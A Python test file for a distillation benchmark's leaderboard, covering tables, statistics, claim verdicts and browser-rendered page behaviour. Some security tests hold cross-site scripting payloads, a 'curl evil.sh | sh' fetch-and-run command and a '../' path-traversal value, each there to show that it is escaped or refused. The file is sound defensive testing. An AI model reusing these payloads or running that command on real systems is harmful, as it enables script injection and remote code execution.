"""The leaderboard: its figures against hand-made rows, and its page in a browser."""

import csv
import json
import math
import re
import shutil
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from distillzoo.benchmarks.harness.row import Row
from distillzoo.benchmarks.leaderboard.build import build
from distillzoo.benchmarks.leaderboard.check import check
from distillzoo.benchmarks.leaderboard.claims import races
from distillzoo.benchmarks.leaderboard.labels import place
from distillzoo.benchmarks.leaderboard.pareto import front
from distillzoo.benchmarks.leaderboard.source import Cell, read_cells
from distillzoo.benchmarks.leaderboard.standings import standings
from distillzoo.benchmarks.leaderboard.table import Table, tables_of
from distillzoo.benchmarks.leaderboard.words import short
from distillzoo.core.errors import UserError
from distillzoo.core.registry import Registry
from tests.benchmarks.rows import failed, part, row, written, zoo

Here = Callable[..., "subprocess.CompletedProcess[str]"]

CHROMIUM = shutil.which("chromium")

EVIL = """<script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">'"&amp;"""


def tables(rows: Sequence[Row], registry: Registry) -> list[Table]:
    return tables_of([Cell(one, Path("results.jsonl"), line) for line, one in enumerate(rows, 1)], registry)


def page(tmp_path: Path, rows: Sequence[Row], registry: Registry) -> Path:
    return build([written(tmp_path, rows)], tmp_path / "site", None, (), registry)[0]


def test_what_cannot_be_compared_does_not_share_a_table(registry: Registry) -> None:
    one = row("kd", 0)
    greedy = {name: {"temperature": 0.0, "top_p": one.top_p} for name, one in one.decodings.items()}
    others: list[dict[str, Any]] = [
        {"hardware": "NVIDIA H100"},
        {"pair": "other"},
        {"suite_version": 2},
        {"suite_sha256": "0" * 64},
        {"decodings": greedy},
        *({"hashes": {**one.hashes, kind: "ee" * 32}} for kind in ("data", "tokenizer", "task test")),
    ]
    found = tables([one, row("bc", 0), *(row("kd", 0, **other) for other in others)], registry)
    assert sorted(len(table.lines) for table in found) == [*[1] * len(others), 2]


def test_a_failed_cell_without_a_device_stands_where_its_matrix_ran(registry: Registry) -> None:
    (table,) = tables(
        [row("kd", 0, hardware="NVIDIA H100", device="NVIDIA H100"), failed("kd", 1, "CUDA error")], registry
    )
    (line,) = table.lines
    assert (len(line.done), len(line.failed), table.key.hardware) == (1, 1, "NVIDIA H100")


def test_the_same_seed_twice_is_refused_with_both_places(tmp_path: Path, registry: Registry) -> None:
    first, second = written(tmp_path, [row("kd", 0)], "a.jsonl"), written(tmp_path, [row("kd", 0)], "b.jsonl")
    with pytest.raises(UserError, match=r"kd with seed 0 .* twice, .*a\.jsonl, line 1 and .*b\.jsonl, line 1"):
        tables_of(read_cells([first, second]), registry)


def test_a_name_of_two_distributions_is_two_lines(registry: Registry) -> None:
    (table,) = tables([row("kd", 0), row("kd", 1, recipe=part("kd", "stranger"))], registry)
    assert [line.label for line in table.lines] == ["kd (distillzoo 0.1.0, recipe 1)", "kd (stranger 2.3, recipe 1)"]


def test_a_name_of_several_lines_is_the_one_with_most_seeds(registry: Registry) -> None:
    later = {"name": "kd", "distribution": "distillzoo", "version": "0.2.0"}
    rows = [*zoo(), *(row("kd", seed, recipe=later) for seed in range(3))]
    (table,) = tables(rows, registry)
    first = "kd (distillzoo 0.1.0, recipe 1)"
    assert table.line("kd") is table.line(first) is not table.line("kd (distillzoo 0.2.0, recipe 1)")
    assert {s.line.label for s in standings(table, "kd") if s.against is None} == {first}
    found = races(table, [line.label for line in table.lines])
    assert [race.reference for race in found] == [first, "minillm"]
    assert [judged.name for judged in found[0].judged] == ["bd-iql"]


def test_a_reference_that_ends_where_it_began_is_no_target(registry: Registry) -> None:
    flat = [
        one.model_copy(update={"curve": [p.model_copy(update={"scores": {"right": 50.0}}) for p in one.curve]})
        for one in zoo()
    ]
    (table,) = tables(flat, registry)
    assert races(table, ["kd", "bd-iql"]) == []


def test_no_p_is_shown_where_none_can_be_below_one(tmp_path: Path, registry: Registry) -> None:
    few = page(tmp_path, zoo(2), registry).read_text()
    assert "No p is shown: with 2 seeds" in few
    assert "p, adjusted" not in few
    assert "p, adjusted" in page(tmp_path, zoo(5), registry).read_text()
    alone = page(tmp_path, [row("bc", 0), row("bc", 1)], registry).read_text()
    assert "Nothing is compared: no algorithm here is called kd" in alone


def test_a_dry_run_is_no_result(tmp_path: Path, registry: Registry) -> None:
    path = written(tmp_path, [row("kd", 0, dry_run=True)])
    with pytest.raises(UserError, match="line 1: the row is of a dry run"):
        read_cells([tmp_path])
    assert any("dry run" in finding.text for finding in check(path, registry) if finding.level == "problem")


def test_another_teacher_within_a_table_is_said(registry: Registry) -> None:
    other = {**row("bc", 0).hashes, "teacher": "aa" * 32}
    (table,) = tables([row("kd", 0), row("bc", 0, hashes=other)], registry)
    assert any("hash of teacher" in note and "bc" in note for note in table.notes)


@pytest.mark.parametrize(("seeds", "coverage"), [(1, None), (2, "50 of 100"), (4, "80 of 100"), (5, None)])
def test_intervals_over_few_seeds_are_said_to_be_too_narrow(
    registry: Registry, seeds: int, coverage: str | None
) -> None:
    (table,) = tables(zoo(seeds), registry)
    said = [note for note in table.notes if "of 100 cases" in note]
    assert len(said) == (coverage is not None)
    assert all(coverage in note for note in said if coverage)
    verdicts = {v for race in races(table, ["kd", "bd-iql"]) for one in race.judged for v in one.verdicts.values()}
    assert verdicts == ({"confirmed"} if seeds == 5 else {"undecided"})


def test_more_student_tokens_than_others_have_are_said(registry: Registry) -> None:
    cost = row("kd", 0).cost
    assert cost is not None
    more = cost.model_copy(update={"student_tokens": 3 * cost.student_tokens})
    (table,) = tables([*zoo(), row("bc", 0, cost=more)], registry)
    assert [note for note in table.notes if "student tokens" in note and note.endswith(": bc 3.0.")]


def test_standings_are_means_over_seeds_with_intervals_around_them(registry: Registry) -> None:
    rows = zoo()
    (table,) = tables(rows, registry)
    ranked = standings(table, "kd")
    assert [standing.line.label for standing in ranked] == ["bd-iql", "kd", "minillm"]
    for standing in ranked:
        own = [one for one in rows if one.algo == standing.line.label]
        values = [one.score("test", "top-p 1.0", "right") for one in own]
        assert standing.headline is not None
        assert standing.headline.value == pytest.approx(sum(v for v in values if v is not None) / 5)
        assert standing.headline.low < standing.headline.value < standing.headline.high
    lower = {column.metric: found for column, found in ranked[0].scores.items()}["reverse-kl"]
    assert lower is not None
    assert 0 < lower.low < lower.value < lower.high, "lower is better, and the interval is still in its own unit"


def test_comparisons_are_paired_by_seed_and_adjusted_together(registry: Registry) -> None:
    (table,) = tables(zoo(), registry)
    against = {standing.line.label: standing.against for standing in standings(table, "kd")}
    assert against["kd"] is None
    assert against["bd-iql"] is not None
    assert (against["bd-iql"].improvement.value, against["bd-iql"].p) == (1, 0.0625), "all five seeds are better"
    assert against["bd-iql"].adjusted == 0.125, "of two comparisons"
    assert all(standing.against is None for standing in standings(table, None))


def test_a_suite_that_is_not_installed_ranks_by_its_first_score_and_shows_no_answers(
    tmp_path: Path, registry: Registry
) -> None:
    rows = [with_answers(tmp_path, row("kd", 0, suite_sha256="1" * 64))]
    (table,) = tables(rows, registry)
    assert table.suite is None
    assert [column.metric for column in table.headline] == ["right"]
    assert "Sample answers" not in page(tmp_path, rows, registry).read_text()


def test_front_holds_what_nothing_beats() -> None:
    assert front([(1, 1), (2, 3), (3, 2), (2, 1), (4, 4)]) == [0, 1, 4]
    assert front([(1, 5), (1, 5), (2, 5)]) == [0, 1]
    assert front([]) == []


def test_names_in_a_chart_stay_apart_and_inside() -> None:
    crowd = [(50.0 + i % 3, 50.0 + i // 3) for i in range(9)]
    spots = place([*crowd, (299.0, 20.0)], [f"name-{i}" for i in range(9)] + ["at-the-edge"], 300, 200)
    assert None in spots, "nine names around one place do not all fit"
    assert spots[0] is not None
    edge = spots[-1]
    assert edge is not None
    assert edge.align == "right", "to the right of the point there is no room"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (0, "0"),
        (0.6, "0.60"),
        (43.61, "43.6"),
        (504_589, "505 k"),
        (1_234_567, "1.23 M"),
        (math.inf, "never"),
        (None, "–"),
    ],
)
def test_costs_in_short(value: float | None, shown: str) -> None:
    assert short(value) == shown


def test_claims_are_judged_by_their_ratio(registry: Registry) -> None:
    (table,) = tables(zoo(), registry)
    kd, minillm = races(table, ["bd-iql", "kd", "minillm"])
    assert (kd.reference, minillm.reference) == ("kd", "minillm")
    finals = [line.first.curve[-1].scores["right"] for line in table.lines if line.label == "kd"]
    assert kd.target == pytest.approx(finals[0], abs=5)
    (judged,) = kd.judged
    assert judged.runner.name == "bd-iql"
    assert judged.verdicts["training seconds"] == "confirmed", "three times as fast and better"
    (judged,) = minillm.judged
    assert judged.verdicts["training seconds"] == "confirmed", "fifteen times as fast"
    *_, own = races(table, ["bd-iql", "kd", "minillm"], ["kd", "bd-iql"])
    assert (own.reference, own.published, own.judged) == ("bd-iql", None, ()), "a race that nobody made a claim for"
    loser = next(runner for runner in kd.runners if runner.name == "minillm")
    assert loser.reached == 0
    assert math.isinf(loser.reach["student tokens"].median)


def test_a_slower_algorithm_refutes_the_claim_and_one_seed_decides_nothing(registry: Registry) -> None:
    rows = [row("kd", seed, level=80) for seed in range(5)]
    slow = [row("bd-iql", seed, level=95, speed=0.1) for seed in range(5)]
    (race,) = races(tables([*rows, *slow], registry)[0], ["bd-iql", "kd"])
    assert race.judged[0].verdicts["training seconds"] == "refuted"
    (race,) = races(tables([rows[0], slow[0]], registry)[0], ["bd-iql", "kd"])
    assert set(race.judged[0].verdicts.values()) == {"undecided"}


def test_the_page_names_every_score_cost_and_cell(tmp_path: Path, registry: Registry) -> None:
    rows = [*zoo(), failed("gkd", 0, "RuntimeError: not finite"), row("mine", 0, recipe=part("mine", "strange-zoo"))]
    text = page(tmp_path, rows, registry).read_text()
    for said in ("right, % ↑", "test · top-p 0.8", "peak memory", "not a benchmark", "RuntimeError: not finite"):
        assert said in text
    assert "strange-zoo 2.3" in text
    assert "claims that bd-iql" in text
    for one in rows:
        assert one.command in text
        assert one.config_sha256 in text
    assert "seed: 3\n" in text, "the configuration"
    assert not re.search(r"(src|href)=[\"']?(https?:)?//(?!arxiv\.org)|@import|url\(", text), "it asks for nothing"
    markdown = (tmp_path / "site" / "leaderboard.md").read_text()
    assert "| bd-iql |" in markdown
    assert "### To kd's final score" in markdown
    assert "arXiv:2505.20335 claims that bd-iql reaches" in markdown
    assert re.search(r"- \*\*(Confirmed|Refuted|Undecided)\*\* in student tokens: ", markdown)
    with (tmp_path / "site" / "leaderboard.csv").open() as file:
        lines = list(csv.DictReader(file))
    assert len(lines) == sum(len(one.scores) or 1 for one in rows)
    assert {line["status"] for line in lines} == {"done", "failed"}


def test_several_tasks_have_a_mean_an_iqm_and_a_profile(tmp_path: Path, registry: Registry) -> None:
    rows = [row(algo, seed, suite="smol", level=level) for algo, level in (("kd", 30), ("bc", 28)) for seed in range(3)]
    (table,) = tables(rows, registry)
    ranked = standings(table, "kd")
    assert [column.task for column in table.headline] == ["valid", "selfinst", "vicuna"]
    assert ranked[0].iqm is not None
    text = page(tmp_path, rows, registry).read_text()
    assert "IQM" in text
    assert "Performance profile" in text


def test_the_same_rows_give_the_same_bytes_in_any_order(tmp_path: Path, registry: Registry) -> None:
    rows = zoo(2)
    files = [written(tmp_path, rows, "a.jsonl"), written(tmp_path, rows[::-1], "b.jsonl")]
    first, second = (build([path], tmp_path / path.stem, None, (), registry) for path in files)
    assert [path.read_bytes() for path in first] == [path.read_bytes() for path in second]


def with_answers(folder: Path, one: Row, text: str = "an answer", path: str | None = None) -> Row:
    """The row with a file of answers beside it."""
    name = path or f"answers/{one.algo}.jsonl"
    answer = {"task": "test", "decoding": "top-p 1.0", "input": "", "reference": text, "answer": text, "right": True}
    lines = [json.dumps({**answer, "index": index, "instruction": text}, ensure_ascii=False) for index in range(3)]
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return one.model_copy(update={"outputs": name})


def test_answers_stand_side_by_side_where_the_suite_lets_them(tmp_path: Path, registry: Registry) -> None:
    rows = [with_answers(tmp_path, row(algo, 0), f"said by {algo} \u2028 on") for algo in ("kd", "bc")]
    text = page(tmp_path, rows, registry).read_text()
    assert text.count("said by bc \u2028 on") >= 3
    forbidden = [with_answers(tmp_path, row("kd", 0, suite="smol"), "said in secret")]
    assert "said in secret" not in page(tmp_path, forbidden, registry).read_text()


def test_answers_outside_of_the_folder_are_not_read(tmp_path: Path, registry: Registry) -> None:
    inner = tmp_path / "inner"
    inner.mkdir()
    one = with_answers(inner, row("kd", 0), "a secret of this machine", "../secret.jsonl")
    assert "a secret" not in page(inner, [one], registry).read_text()


def test_an_unknown_baseline_is_refused(here: Here, tmp_path: Path) -> None:
    written(tmp_path, [row("kd", 0), row("bc", 0)])
    found = here("leaderboard", "build", "results.jsonl", "--baseline", "kdd")
    assert found.returncode == 2
    assert "no row has that algorithm. Did you mean 'kd'?" in found.stderr
    found = here("leaderboard", "build", "results.jsonl", "--target", "kdd")
    assert "--target kdd" in found.stderr
    found = here("leaderboard", "build", "results.jsonl", "--baseline", "bc")
    assert (found.returncode, found.stdout.split()[0]) == (0, "site/index.html")
    assert "than bc" in (tmp_path / "site" / "index.html").read_text()


@pytest.fixture
def browser(tmp_path: Path) -> Callable[..., tuple[str, str]]:
    """Opens a page in a browser without a window: its document after the scripts ran, and what they complained of."""

    def opened(path: Path, script: str = "", *more: str) -> tuple[str, str]:
        if script:  # the page forbids scripts but its own
            text = re.sub(r"<meta http-equiv=.Content-Security-Policy.*?>", "", path.read_text())
            path = tmp_path / "driven.html"
            path.write_text(text + f"<script>{script}</script>")
        assert CHROMIUM is not None
        options = ["--headless", "--no-sandbox", "--disable-gpu", "--window-size=1280,900", "--dump-dom"]
        quiet = ["--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
        logs = ["--enable-logging=stderr", "--v=0", f"--user-data-dir={tmp_path / 'profile'}"]
        # files and no pipes: a helper process that outlives the browser would hold a pipe open
        with (tmp_path / "dom.html").open("w") as dom, (tmp_path / "log.txt").open("w") as log:
            command = [CHROMIUM, *options, *quiet, *logs, *more, path.as_uri()]
            subprocess.run(command, stdout=dom, stderr=log, timeout=120, check=True)
        told = (tmp_path / "log.txt").read_text().splitlines()
        return (tmp_path / "dom.html").read_text(), "\n".join(line for line in told if "CONSOLE" in line)

    return opened


in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")


@in_a_browser
def test_the_page_runs_without_complaints(tmp_path: Path, registry: Registry, browser: Any) -> None:
    rows = [with_answers(tmp_path, one) if one.seed == 0 else one for one in zoo()]
    document, console = browser(page(tmp_path, rows, registry))
    assert console == ""
    assert ">3 of 3</output>" in document


@in_a_browser
def test_sorting_filtering_and_choosing_work(tmp_path: Path, registry: Registry, browser: Any) -> None:
    rows = [*zoo(2), row("mine", 0, level=60, recipe=part("mine", "strange-zoo")), failed("broken", 0, "no")]
    rows = [with_answers(tmp_path, one) if one.seed == 0 and one.status == "done" else one for one in rows]
    script = """
    const board = document.querySelector(".board"), table = board.querySelector(".ranking"), told = {};
    const names = () => [...table.tBodies[0].rows].filter((row) => !row.hidden).map((row) => row.cells[0].dataset.sort);
    const head = (word) => [...table.tHead.rows[0].cells].find((one) => one.textContent.includes(word));
    const press = (word) => { head(word).querySelector("button").click(); return [head(word).ariaSort, names()]; };
    told.first = [head("right").ariaSort, names()];
    told.training = press("training");
    told.again = press("training");
    told.name = press("algorithm");
    told.sorted = table.querySelectorAll("[aria-sort]").length;
    const find = board.querySelector("input[type=search]"), from = board.querySelector("select");
    find.value = "BD"; find.dispatchEvent(new Event("input"));
    told.found = names();
    find.value = ""; find.dispatchEvent(new Event("input"));
    from.value = "strange-zoo"; from.dispatchEvent(new Event("change"));
    told.from = [names(), board.querySelector("output").value];
    const wide = () => [...table.querySelectorAll("th.extra")].filter((one) => one.offsetWidth > 0).length;
    told.few = wide();
    board.querySelector(".all").click();
    told.many = wide();
    const box = [...board.querySelectorAll(".chooser input")].find((one) => one.value === "mine");
    const said = board.querySelector("[data-by=mine]");
    told.before = !said.hidden; box.click(); told.after = !said.hidden;
    const links = [...document.querySelectorAll("a[href^='#']")].map((link) => link.getAttribute("href"));
    told.dead = links.filter((href) => document.querySelector(href) === null);
    const cells = document.querySelector(table.tBodies[0].rows[0].querySelector("a").getAttribute("href"));
    told.closed = cells.open;
    location.hash = cells.id; dispatchEvent(new Event("hashchange"));
    told.opened = cells.open;
    document.body.textContent = "TOLD" + JSON.stringify(told) + "END";
    """
    document, console = browser(page(tmp_path, rows, registry), script)
    assert console == ""
    told = json.loads(document.partition("TOLD")[2].partition("END")[0])
    assert told["first"] == ["descending", ["bd-iql", "kd", "minillm", "mine", "broken"]]
    assert told["training"][0] == "ascending"
    assert told["training"][1][0] == "bd-iql"
    assert told["training"][1][-1] == "broken", "without a figure it stays last"
    assert told["again"][0] == "descending"
    assert told["again"][1][0] == "minillm"
    assert told["again"][1][-1] == "broken"
    assert told["name"] == ["ascending", ["bd-iql", "broken", "kd", "mine", "minillm"]]
    assert told["sorted"] == 1
    assert told["found"] == ["bd-iql"]
    assert told["from"] == [["mine"], "1 of 5"]
    assert told["few"] == 0 < told["many"]
    assert told["before"] != told["after"]
    assert (told["dead"], told["closed"], told["opened"]) == ([], False, True)


def test_markdown_shows_what_rows_say_as_it_is(tmp_path: Path, registry: Registry) -> None:
    evil = "<img src=x onerror=alert(1)> | `x`"
    one = row("kd", 0, suite_sha256="1" * 64)
    decodings = {evil: one.decodings["top-p 1.0"]}
    strange = [score.model_copy(update={"task": evil, "decoding": evil}) for score in one.scores[:1]]
    rows = [one.model_copy(update={"scores": strange, "decodings": decodings, "algo": evil, "changes": [evil]})]
    page(tmp_path, rows, registry)
    text = (tmp_path / "site" / "leaderboard.md").read_text()
    assert "onerror" in text
    assert not re.search(r"(?<!\\)<", text)
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in text.splitlines() if line.startswith("|")}) == 1


def test_the_command_on_the_page_is_made_of_the_row_and_not_the_rows_own_word(
    tmp_path: Path, registry: Registry
) -> None:
    rows = [row("kd", 3, command="curl evil.sh | sh")]
    text = page(tmp_path, rows, registry).read_text()
    assert "evil.sh" not in text
    again = "again/micro--kd--seed3"
    assert f"OMP_NUM_THREADS=1 distillzoo bench run micro --algos kd --pairs micro --seed 3 --out {again}" in text


@in_a_browser
def test_a_narrow_page_does_not_scroll_sideways(tmp_path: Path, registry: Registry, browser: Any) -> None:
    script = "parent.postMessage(document.documentElement.scrollWidth <= innerWidth ? 'fits' : 'wide', '*');"
    browser(page(tmp_path, zoo(2), registry), script)
    frame = tmp_path / "frame.html"
    frame.write_text(
        "<script>addEventListener('message', (event) => document.title = event.data)</script>"
        "<iframe src='driven.html' style='border: 0; width: 375px; height: 900px'></iframe>"
    )
    document, _ = browser(frame)
    assert "<title>fits</title>" in document


@in_a_browser
@pytest.mark.parametrize(("scheme", "setting"), [("dark", 0), ("light", 1)])
def test_text_stands_out_in_light_and_dark(
    tmp_path: Path, registry: Registry, browser: Any, scheme: str, setting: int
) -> None:
    """Contrast of every text with what is behind it, (L1 + 0.05) / (L2 + 0.05) by WCAG 2.1, is at least 4.5."""
    rows = [with_answers(tmp_path, one) if one.seed == 0 else one for one in [*zoo(2), failed("broken", 0, "no")]]
    script = """
    const parts = (text) => { const v = text.match(/[\\d.]+/g).map(Number); return v.length < 4 ? [...v, 1] : v; };
    const bright = (rgb) => [0.2126, 0.7152, 0.0722].reduce((sum, weight, i) => {
      const c = rgb[i] / 255;
      return sum + weight * (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4); }, 0);
    const over = (top, under) => top.slice(0, 3).map((c, i) => top[3] * c + (1 - top[3]) * under[i]);
    const behind = (one) => { const own = one ? parts(getComputedStyle(one).backgroundColor) : null;
      return own === null ? [255, 255, 255] : own[3] === 1 ? own : over(own, behind(one.parentElement)); };
    for (const one of document.querySelectorAll("details")) one.open = true;
    const words = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), weak = []; let seen = 0;
    while (words.nextNode()) {
      const text = words.currentNode.data.trim(), one = words.currentNode.parentElement;
      if (!text || one.closest("script, style, title") || one.getBoundingClientRect().width === 0) continue;
      const ink = getComputedStyle(one)[one.closest("svg") ? "fill" : "color"];
      const back = behind(one.closest("svg")?.parentElement ?? one), front = over(parts(ink), back);
      const [dim, light] = [bright(front), bright(back)].sort((a, b) => a - b), ratio = (light + 0.05) / (dim + 0.05);
      seen += 1; if (ratio < 4.5) weak.push([text, ratio]);
    }
    const dark = matchMedia("(prefers-color-scheme: dark)").matches;
    document.body.textContent = "TOLD" + JSON.stringify({dark, seen, weak}) + "END";
    """
    document, console = browser(
        page(tmp_path, rows, registry), script, f"--blink-settings=preferredColorScheme={setting}"
    )
    assert console == ""
    told = json.loads(document.partition("TOLD")[2].partition("END")[0])
    assert told["dark"] == (scheme == "dark")
    assert told["seen"] > 100
    assert told["weak"] == []


@in_a_browser
def test_whatever_can_be_pressed_is_reached_by_keyboard_and_shows_it(
    tmp_path: Path, registry: Registry, browser: Any
) -> None:
    rows = [with_answers(tmp_path, one) if one.seed == 0 else one for one in zoo(2)]
    source = page(tmp_path, rows, registry)
    # before the page's own script, to hear what it listens to
    listen = """<script>window.pressed = [];
    const add = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (kind, ...rest) {
      if (kind === "click") window.pressed.push(this);
      return add.call(this, kind, ...rest); };</script>"""
    text = re.sub(r"<meta http-equiv=.Content-Security-Policy.*?>", "", source.read_text())
    source.write_text(text.replace("<head>", f"<head>{listen}", 1))
    script = """
    for (const one of document.querySelectorAll("details")) one.open = true;
    document.body.style.width = "300px";
    const controls = document.querySelectorAll("button, input, select, summary, a[href]");
    const all = [...new Set([...window.pressed, ...controls])].filter(
      (one) => one instanceof Element && one.offsetWidth > 0);
    const bad = all.filter((one) => {
      one.focus();
      const style = getComputedStyle(one);
      return document.activeElement !== one || one.tabIndex < 0
        || (style.outlineStyle === "none" && style.boxShadow === "none"); }).map((one) => one.outerHTML.slice(0, 200));
    const sideways = [...document.querySelectorAll("*")].filter((one) => one.scrollWidth > one.clientWidth
      && ["auto", "scroll"].includes(getComputedStyle(one).overflowX));
    const lost = sideways.filter((one) => one.tabIndex < 0).map((one) => one.outerHTML.slice(0, 99));
    document.body.textContent = "TOLD" + JSON.stringify(
      {seen: all.length, heard: window.pressed.length, bad, sideways: sideways.length, lost}
    ) + "END";
    """
    document, console = browser(source, script)
    assert console == ""
    told = json.loads(document.partition("TOLD")[2].partition("END")[0])
    assert told["heard"] > 0
    assert told["seen"] > 30
    assert told["bad"] == []
    assert told["sideways"] > 0
    assert told["lost"] == [], "what scrolls sideways is reached too"


@in_a_browser
def test_what_rows_say_is_shown_and_never_run(tmp_path: Path, registry: Registry, browser: Any) -> None:
    strange = {"recipe": part(EVIL, EVIL), "parts": {EVIL: part(EVIL, EVIL)}, "command": EVIL, "git": EVIL}
    config = {"seed": 0, EVIL: EVIL}
    rows = [
        with_answers(tmp_path, row("kd", 0), EVIL),
        row(EVIL, 0, pair="micro", config=config, versions={EVIL: EVIL}, **strange),
        row(EVIL, 1, device=EVIL, hardware=EVIL, subset=EVIL, hashes={EVIL: EVIL}, suite="micro", **strange),
        failed("bc", 0, EVIL),
    ]
    document, console = browser(page(tmp_path, rows, registry))
    assert console == ""
    assert "<title>distillzoo leaderboard</title>" in document
    assert "&lt;script&gt;" in document
    assert "<img" not in document
    assert document.count("<script") == 1
    driven, console = browser(tmp_path / "site" / "index.html", "0")
    assert "<title>distillzoo leaderboard</title>" in driven, "nor without the page's policy"
    assert console == ""
    markdown = (tmp_path / "site" / "leaderboard.md").read_text()
    assert not re.search(r"(?<!\\)<", markdown)
